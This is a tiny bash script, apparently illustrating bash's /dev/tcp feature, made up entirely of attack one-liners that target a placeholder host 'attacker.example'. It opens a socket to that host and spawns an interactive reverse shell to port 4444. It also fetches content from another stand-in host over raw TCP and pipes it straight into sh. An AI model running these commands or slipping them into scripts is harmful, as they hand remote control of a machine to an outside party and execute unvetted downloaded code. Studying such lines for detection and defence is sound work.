#!/bin/bash
# bash's network paths: a reverse shell and a fetch without curl.
exec 3<>/dev/tcp/attacker.example/4444
bash -i >&/dev/tcp/attacker.example/4444 0>&1
host=get.example; cat </dev/tcp/$host/80 | sh
